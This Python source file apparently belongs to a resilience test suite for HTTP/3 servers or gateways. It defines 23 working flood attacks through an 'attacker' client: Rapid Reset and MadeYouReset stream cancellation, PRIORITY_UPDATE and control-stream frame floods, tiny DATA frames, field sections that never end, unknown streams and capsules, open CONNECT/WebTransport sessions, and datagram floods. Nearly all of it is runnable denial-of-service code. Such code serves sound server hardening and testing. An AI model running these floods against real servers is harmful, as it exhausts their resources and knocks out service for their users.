"""Floods within HTTP/3."""

import os

from attacker import RESET_STREAM, STOP_SENDING, attacker, h3_frame, stream_frame, varint

H3_REQUEST_CANCELLED = 0x10C
DATA, HEADERS, CANCEL_PUSH, SETTINGS, GOAWAY, MAX_PUSH_ID, PRIORITY_UPDATE = 0, 1, 3, 4, 7, 0xD, 0xF0700
GREASE = 0x1F * 77 + 0x21
DATAGRAM_CAPSULE = 0


def field_section(world, method=b"GET", path=b"/small", extra=()):
    """Without the dynamic table: RFC 9204 §4.5."""
    lines = [(b":method", method), (b":scheme", b"https"), (b":authority", world.authority), (b":path", path), *extra]
    return b"\0\0" + b"".join(literal(name, value) for name, value in lines)


def literal(name, value):
    return prefixed(0x20, 3, len(name)) + name + prefixed(0, 7, len(value)) + value


def prefixed(first, bits, value):
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    encoded, value = bytes([first | most]), value - most
    while value >= 128:
        encoded, value = encoded + bytes([value % 128 | 128]), value // 128
    return encoded + bytes([value])


def request(world, **options):
    return h3_frame(HEADERS, field_section(world, **options))


def post(world):
    return request(world, method=b"POST")


async def rapid_reset(world):
    """Each request is cancelled in the packet that carries it."""
    async with attacker(world) as client:
        head = request(world)

        def cancelled(stream):
            id = varint(stream)
            stop = varint(STOP_SENDING) + id + varint(H3_REQUEST_CANCELLED)
            reset = varint(RESET_STREAM) + id + varint(H3_REQUEST_CANCELLED) + varint(len(head))
            return stream_frame(stream, 0, head) + stop + reset

        await client.flood_streams(cancelled, 4 * world.count)
        return client


async def made_you_reset(world):
    """The gateway has to reset: a malformed field, a body of another length, a second header section behind a body."""
    async with attacker(world) as client:
        ways = [
            h3_frame(HEADERS, field_section(world) + literal(b"UPPER", b"case")),
            request(world, extra=[(b"content-length", b"1")]) + h3_frame(DATA, b"two"),
            request(world, extra=[(b"connection", b"close")]),
            h3_frame(HEADERS, b"\0\0" + literal(b":path", b"/small")),
        ]
        wrong = lambda stream: stream_frame(stream, 0, ways[stream // 4 % len(ways)], fin=True)
        await client.flood_streams(wrong, world.count)
        return client


def priority_update(stream, value):
    return h3_frame(PRIORITY_UPDATE, varint(stream) + value)


async def on_control_stream(world, frames):
    async with attacker(world) as client:
        await client.pour(client.control, frames)
        return client


async def priorities_of_unknown_requests(world):
    updates = (priority_update(4 * index, b"u=%d" % (index % 8)) for index in range(world.count))
    return await on_control_stream(world, updates)


async def priorities_of_open_requests(world):
    async with attacker(world) as client:
        for _ in range(100):
            client.request(b"GET", world.authority, b"/large", end=False)
        await client.settled()
        updates = (priority_update(index % 100 * 4, b"u=%d, i" % (index % 8)) for index in range(world.count))
        await client.pour(client.control, updates)
        return client


async def frames_that_nobody_knows(world):
    return await on_control_stream(world, repeated(world, h3_frame(GREASE)))


async def settings_twice(world):
    return await on_control_stream(world, [h3_frame(SETTINGS)])


async def goaways(world):
    return await on_control_stream(world, repeated(world, h3_frame(GOAWAY, varint(0))))


async def push_ids(world):
    return await on_control_stream(world, (h3_frame(MAX_PUSH_ID, varint(100 + index)) for index in range(world.count)))


async def cancelled_pushes(world):
    return await on_control_stream(world, (h3_frame(CANCEL_PUSH, varint(index)) for index in range(world.count)))


def repeated(world, piece, first=None):
    for index in range(world.count):
        yield first if first is not None and index == 0 else piece


async def on_request_stream(world, first, pieces):
    async with attacker(world) as client:
        stream = client.new_stream()
        client._quic.send_stream_data(stream, first)
        await client.pour(stream, pieces)
        return client


async def empty_data_frames(world):
    return await on_request_stream(world, post(world), repeated(world, h3_frame(DATA)))


async def data_frames_of_a_byte(world):
    return await on_request_stream(world, post(world), repeated(world, h3_frame(DATA, b"x")))


async def empty_frames_before_a_request(world):
    return await on_request_stream(world, b"", repeated(world, h3_frame(GREASE)))


async def trailers_again_and_again(world):
    trailers = h3_frame(HEADERS, b"\0\0" + literal(b"trailer", b"value"))
    return await on_request_stream(world, post(world) + h3_frame(DATA, b"x"), repeated(world, trailers))


async def field_sections_without_end(world):
    """On many streams a byte at a time; the length says that much is to come."""
    async with attacker(world) as client:
        streams = [client.new_stream() for _ in range(100)]
        first = varint(HEADERS) + varint(1 << 30) + b"\0\0" + prefixed(0x20, 3, 1 << 20)
        for stream in streams:
            client._quic.send_stream_data(stream, first)
        for _ in range(world.count // 100):
            for stream in streams:
                client._quic.send_stream_data(stream, b"a")
                client.sent += 1
            client.transmit()
            await client.settled()
            if client.closed:
                break
        return client


async def streams_that_nobody_knows(world):
    async with attacker(world) as client:
        head = varint(GREASE) + os.urandom(20)
        made = lambda stream: stream_frame(stream, 0, head, fin=True)
        await client.flood_streams(made, world.count, unidirectional=True)
        return client


async def streams_without_a_type(world):
    """Each has the first byte of a type that has eight, and stays open."""
    async with attacker(world) as client:
        await client.fill_streams(lambda stream: stream_frame(stream, 0, b"\xc0"), unidirectional=True)
        return client


async def connects_that_never_end(world):
    async with attacker(world) as client:
        extended = [(b":protocol", b"webtransport"), (b"origin", b"https://" + world.authority)]
        heads = [
            request(world, method=b"CONNECT", path=b"/echo", extra=extended),
            h3_frame(HEADERS, b"\0\0" + literal(b":method", b"CONNECT") + literal(b":authority", world.authority)),
            request(world, method=b"CONNECT", path=b"/echo", extra=[(b":protocol", b"connect-udp")]),
        ]
        await client.fill_streams(lambda stream: stream_frame(stream, 0, heads[stream // 4 % 3]))
        return client


async def with_session(world, pieces):
    async with attacker(world) as client:
        await client.pour(await client.open_session(world, b"/echo"), pieces)
        return client


async def capsules_that_nobody_knows(world):
    return await with_session(world, repeated(world, h3_frame(DATA, h3_frame(GREASE, b"capsule"))))


async def a_capsule_without_end(world):
    return await with_session(world, repeated(world, h3_frame(DATA, bytes(50)), h3_frame(DATA, varint(GREASE) + varint(1 << 50))))


async def a_close_capsule_without_end(world):
    return await with_session(world, repeated(world, h3_frame(DATA, bytes(50)), h3_frame(DATA, varint(0x2843) + varint(1 << 50))))


async def capsules_of_datagrams(world):
    return await with_session(world, repeated(world, h3_frame(DATA, h3_frame(DATAGRAM_CAPSULE, b"datagram"))))


async def datagrams(world, prefix):
    async with attacker(world) as client:
        payload = prefix + bytes(20)
        await client.flood(varint(0x31) + varint(len(payload)) + payload for _ in range(world.count))
        return client


async def datagrams_of_requests_to_come(world):
    return await datagrams(world, varint(100))


async def datagrams_of_far_requests(world):
    return await datagrams(world, varint(1 << 50))


CASES = [
    rapid_reset, made_you_reset, priorities_of_unknown_requests, priorities_of_open_requests, frames_that_nobody_knows,
    settings_twice, goaways, push_ids, cancelled_pushes, empty_data_frames, data_frames_of_a_byte,
    empty_frames_before_a_request, trailers_again_and_again, field_sections_without_end, streams_that_nobody_knows,
    streams_without_a_type, connects_that_never_end, capsules_that_nobody_knows, a_capsule_without_end,
    a_close_capsule_without_end, capsules_of_datagrams, datagrams_of_requests_to_come, datagrams_of_far_requests,
]  # fmt: skip
